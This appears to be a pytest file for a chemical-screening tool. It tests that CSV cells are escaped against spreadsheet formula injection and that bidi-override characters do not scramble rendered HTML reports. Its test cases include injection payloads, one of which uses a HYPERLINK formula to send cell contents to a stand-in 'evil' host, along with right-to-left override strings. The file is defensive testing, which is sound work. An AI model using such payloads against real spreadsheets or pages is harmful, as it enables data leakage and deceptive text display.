"""The apostrophe rule: nothing executes, everything comes back."""

import csv
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from itertools import chain, combinations
from pathlib import Path
from time import process_time
from typing import Any

import pandas as pd
import pytest
from distributed import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gnn.bundle.bundle import Bundle
from screening.evidence.evidence import Evidence
from screening.hits.hit_files import write_csv
from screening.hits.table import hit_table
from screening.objective.screen_settings import Screen
from screening.rank.costly_filters import rank_with_costly_filters
from screening.report.manifest import Artefact, RunFacts
from screening.report.report import render_report
from screening.runs.dossier import open_dossier
from screening.runs.dossier_page import render_dossier
from screening.runs.past_run import open_run
from screening.runs.plan import plan_run
from screening.runs.run import run_screen
from screening.text.cells import escape_cell, format_number, isolated, unescape_cell

SIGNS = "=+-@＝＋－＠"
STARTS = SIGNS + "\t\r\n"
SEPARATORS = ",;\t|"
CONTROLS = "".join(chr(c) for c in range(32) if chr(c) not in "\t\r\n")
TURNS = "a\u2069\u202edrow\u2066"
"""Ends the isolation of an element, turns what follows, and opens another that nothing ends."""
DISORDER = r"""() => {
  const wrong = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const { currentNode: node } = walker;
    if (node.parentElement.closest("script, style, title, option, bdi")) continue;
    const last = new Map();
    for (let at = 0; at < node.length; at += 1) {
      if (!/[!-~]/.test(node.data[at])) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + 1);
      const { x, bottom, width } = range.getBoundingClientRect();
      const line = Math.round(bottom);
      if (width && x < (last.get(line) ?? -Infinity)) wrong.push(node.data);
      last.set(line, x);
    }
  }
  return [...new Set(wrong)];
}"""
"""Our own words whose letters do not stand from left to right in their line."""


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("'=1", "''=1"),
        ("'quoted'", "'quoted'"),
        ("5'-AMP", "5'-AMP"),
        ("CC(=O)O", "CC(=O)O"),
        ("[O-]", "[O-]"),
        ("007", "007"),
        (" plain", " plain"),
        ("", ""),
        ("x;=1+1;", "x;'=1+1;"),
        ('a;=HYPERLINK("http://evil/"&A1);', 'a;\'=HYPERLINK("http://evil/"&A1);'),
        ("x|@SUM(A1)", "x|'@SUM(A1)"),
        ("x,-1", "x,'-1"),
        ("x\ty\t+1", "x\ty\t'+1"),
        ("two\n=1", "two\n'=1"),
        ("x; \t=1", "x; \t'=1"),
        ('x;"=1&"', 'x;"\'=1&"'),
        ("x;'=1", "x;''=1"),
        ("x;'quoted'", "x;'quoted'"),
        (";=1;=2", ";'=1;'=2"),
        ('"=1"', '\'"=1"'),
        ("\0=1", "␀=1"),
        ("a;\x1b\x0c=1", "a;␛␌=1"),
        ("'\0", "''␀"),
        ("␀", "'␀"),
        ("'␀", "'''␀"),
        ("2,4-dinitrophenol; C=O", "2,4-dinitrophenol; C=O"),
        ("C[C@H](F)Cl |&1:1,r|", "C[C@H](F)Cl |&1:1,r|"),
    ],
)
def test_rule(text: str, cell: str) -> None:
    assert escape_cell(text) == cell
    assert unescape_cell(cell) == text


TEXTS = st.text(st.sampled_from("'=+-@\t\r\n ＝a1\"<;,|\0\x1b␀␛\x85")) | st.text()
CHOICES = list(chain.from_iterable(combinations(SEPARATORS, n) for n in range(len(SEPARATORS) + 1)))
"""All the ways of choosing separators; a line break always is one."""


@given(TEXTS)
def test_every_text_comes_back_and_none_executes(text: str) -> None:
    cell = escape_cell(text)
    assert unescape_cell(cell) == text
    assert not cell.startswith(tuple(STARTS))
    assert not cell.strip().startswith(tuple(STARTS))
    assert not set(cell) & set(CONTROLS)


@given(rows=st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=3))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_cell_begins_with_a_formula_wherever_a_spreadsheet_parts_them(
    rows: list[tuple[str, str, str]], tmp_path: Path
) -> None:
    """With quotation marks obeyed or taken for text, and white space and such marks dropped."""
    path = tmp_path / "x.csv"
    write_csv(path, ["a", "b", "c"], rows)
    content = path.read_bytes().decode()
    with path.open(encoding="utf-8", newline="") as file:
        found = list(csv.reader(file))
    assert [tuple(map(unescape_cell, row)) for row in found] == [("a", "b", "c"), *rows]
    cells = [cell for row in found for cell in row]
    for chosen in CHOICES:
        cells += re.split(f"[\r\n\x85{''.join(chosen)}]", content)
    for mark in SEPARATORS:
        lines = re.split("[\r\n]", content)
        cells += [
            cell for line in lines for row in csv.reader([line], delimiter=mark) for cell in row
        ]
    blank = "".join({c for c in content if c.isspace()}) + '"'
    assert [cell for cell in cells if cell.lstrip(blank).startswith(tuple(SIGNS))] == []


@pytest.mark.parametrize("piece", [" ", "'", ";", "\n", ";'", '"', "; ", "\0", "=", ";=", "␀"])
def test_a_long_cell_takes_no_longer_than_its_letters(piece: str) -> None:
    start = process_time()
    text = piece * 200_000
    assert unescape_cell(escape_cell(text)) == text
    assert process_time() - start < 5, "it took as long as the square of its length"


@given(TEXTS, TEXTS)
def test_different_texts_stay_different(left: str, right: str) -> None:
    assert (escape_cell(left) == escape_cell(right)) == (left == right)


@pytest.mark.parametrize(
    ("value", "decimals", "text"),
    [
        (8.125, 2, "8.12"),
        (-0.004, 2, "0.00"),
        (-1.5, 1, "-1.5"),
        (1e-9, 3, "0.000"),
        (2628, 0, "2628"),
        (-0.4, 0, "0"),
    ],
)
def test_numbers(value: float, decimals: int, text: str) -> None:
    assert format_number(value, decimals) == text


@pytest.fixture(scope="module")
def tab() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("there is no Chromium on this machine")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        yield browser.new_page(viewport={"width": 1280, "height": 900})
        browser.close()


def show(tab: Any, path: Path, page: str) -> None:
    path.write_text(page, encoding="utf-8")
    tab.goto(path.as_uri())


def test_isolated_texts_keep_their_own_direction() -> None:
    assert isolated(TURNS) == "\u2068adrow\u2069"
    assert isolated("שלום 12") == "\u2068שלום 12\u2069"


def test_a_report_keeps_the_order_of_its_own_words(
    tab: Any,
    tmp_path: Path,
    kinase: Screen,
    scored: Callable[..., pd.DataFrame],
    facts: RunFacts,
    evidence: list[Evidence],
) -> None:
    who = [(f"{n}{TURNS}", f"{TURNS}{n}", {TURNS: TURNS}) for n in range(8)]
    ranking = rank_with_costly_filters(lambda: [scored(who)], kinase)
    known = [
        one._replace(
            neighbours={
                task: tuple(near._replace(id=TURNS) for near in all_near)
                for task, all_near in one.neighbours.items()
            }
        )
        for one in evidence
    ]
    named = RunFacts(**{**vars(facts), "library": Artefact(TURNS, "0" * 64)})
    screen = kinase.changed(title=TURNS)
    table = hit_table(ranking.hits, screen, facts.units, evidence=known)
    show(tab, tmp_path / "report.html", render_report(table, ranking, screen, named, known))
    tab.wait_for_selector("html[data-ready]", state="attached")
    assert tab.title() == "\u2068adrow\u2069 · hitlist"
    assert tab.evaluate(DISORDER) == []
    tab.select_option("#sort", TURNS)
    tab.select_option("#view", "table")
    for box in tab.locator("#groups input").all():
        box.check()
    assert tab.evaluate(DISORDER) == []
    tab.locator("td.who a").first.click()
    tab.locator("#opened summary").click()
    assert tab.locator("#opened").inner_text().count(TURNS) > 3
    assert tab.evaluate(DISORDER) == []
    spoken = tab.locator("[aria-label]").evaluate_all("all => all.map(one => one.ariaLabel)")
    meanings = tab.locator("#opened details [title]").evaluate_all("all => all.map(o => o.title)")
    drawn = tab.locator("#map title").all_text_contents()
    for texts in (spoken, meanings, drawn):
        assert any("\u2068adrow" in text for text in texts)
        # A whole text of the library may stand alone, as the name of its column does.
        assert [text for text in texts if "\u202e" in text and not text.startswith(TURNS)] == []


def test_a_dossier_keeps_the_order_of_its_own_words(
    tab: Any,
    tmp_path: Path,
    make_bundle: Callable[..., Bundle],
    write_library: Callable[[Path, Sequence[tuple[str, str]]], Path],
    lone: Client,
) -> None:
    bundle = make_bundle(tmp_path / "bundle", "small", (("EGFR", "r"),))
    rows = [(TURNS, "CCOc1ccccc1.Cl"), (f"b{TURNS}", f"CCQ{TURNS}"), ("c", "CCO")]
    library = write_library(tmp_path / f"{TURNS}.csv", rows)
    said = {
        "name": "s",
        "title": "s",
        "library": str(library),
        "bundles": [str(bundle.path)],
        "hits": 1,
        "primary": [{"task": "small_EGFR", "zero": 5.0, "full": 8.0}],
    }
    screen = Screen.model_validate(said)
    run_screen(plan_run(screen, tmp_path / "run", prepared=tmp_path / "prepared"), lone)
    past = open_run(tmp_path / "run")
    for row, _ in enumerate(rows, 1):
        dossier = open_dossier(past, row)._replace(outcome=f"passed over: {TURNS}")
        page = render_dossier(dossier, past)
        assert f"<bdi>passed over: {TURNS}</bdi>" in page
        show(tab, tmp_path / "why.html", page)
        assert tab.evaluate(DISORDER) == []
        assert TURNS not in tab.title()
